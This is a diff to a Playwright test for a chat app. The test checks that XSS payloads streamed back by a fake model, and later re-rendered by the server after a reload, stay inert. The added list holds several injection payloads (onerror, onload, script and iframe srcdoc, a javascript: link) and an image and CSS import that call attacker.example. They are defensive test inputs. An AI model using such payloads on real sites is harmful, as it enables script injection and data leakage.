@@ -1,8 +1,11 @@
 /**
- * XSS: every payload from shared/fixtures/xss-payloads.txt is echoed back by fake-echo in
- * random splits (so the streaming tail renderer sees every half-typed state), one at a time
- * and then all together. Throughout: no dialog, no request off the app's host, no dangerous
- * element or attribute inside `.markdown` (live or settled), and `window.__xss` stays unset.
+ * XSS: every payload from shared/fixtures/xss-payloads.txt (plus a few that would set a flag
+ * if they ever ran) is echoed back by fake-echo in random splits (so the streaming tail
+ * renderer sees every half-typed state), one at a time and then all together; then the
+ * conversation is reloaded so every answer is also rendered whole, by the server, and
+ * hydrated. Throughout: no dialog, no script execution (`alert`/`confirm`/… are tripwires that
+ * set `window.__xss`, and the flag payloads set it directly), no request to any host but the
+ * app's (recorded and blocked), no dangerous element or attribute inside `.markdown`.
  */
 import { expect, test } from '@playwright/test';
 import { existsSync, readFileSync } from 'node:fs';
@@ -33,10 +36,21 @@ function isRawHtml(payload: string): boolean {
   return /^<[a-zA-Z]/.test(payload) && !/^<[a-zA-Z][a-zA-Z0-9+.-]*:/.test(payload);
 }
 
-const payloads = loadPayloads();
+/** Payloads that set `window.__xss` themselves if any part of them ever executes. */
+const FLAG_PAYLOADS = [
+  '<img src=x onerror="window.__xss=\'img onerror\'">',
+  '<svg onload="window.__xss=\'svg onload\'"></svg>',
+  '<script>window.__xss = "script element"</script>',
+  '[click](javascript:window.__xss=\'link\')',
+  '![pixel](https://attacker.example/p.png?leak=1 "t") and <style>@import "https://attacker.example/s.css";</style>',
+  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
+];
+
+const payloads = [...loadPayloads(), ...FLAG_PAYLOADS];
+const filePayloads = loadPayloads().length;
 
 test('XSS payloads streamed back by the model stay inert', async ({ page }) => {
-  test.skip(payloads.length === 0, `no XSS payloads: ${PAYLOADS_FILE} is missing or empty`);
+  test.skip(filePayloads === 0, `no XSS payloads: ${PAYLOADS_FILE} is missing or empty`);
   test.setTimeout(240_000);
 
   const guard = await installXssGuard(page, appUrl());
@@ -68,12 +82,27 @@ test('XSS payloads streamed back by the model stay inert', async ({ page }) => {
     });
   }
 
-  await test.step('all payloads in one message', async () => {
+  await test.step('every answer again, rendered whole by the server and hydrated', async () => {
+    await expect(page).toHaveURL(/\/c\/[0-9a-f-]{36}$/);
+    await page.reload();
+    await chat.waitForHydration();
+    await expect(chat.assistantMessages).toHaveCount(payloads.length);
+    await expect(chat.messageList.locator('article[data-role="assistant"][data-status="done"]')).toHaveCount(
+      payloads.length,
+    );
+    await expectClean('reloaded conversation');
+  });
+
+  await test.step('all payloads in one message, streamed and then whole', async () => {
     await chat.newChat(); // only if the UI has a "New chat" button; otherwise keep going
     const answer = await chat.send(payloads.join('\n\n'));
     await chat.waitForDone(answer, 60_000);
     expect((await chat.answerText(answer)).length).toBeGreaterThan(100);
     await expectClean('combined message');
+    await page.reload();
+    await chat.waitForHydration();
+    await expect(chat.lastAssistant).toHaveAttribute('data-status', 'done');
+    await expectClean('combined message reloaded');
   });
 
   expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
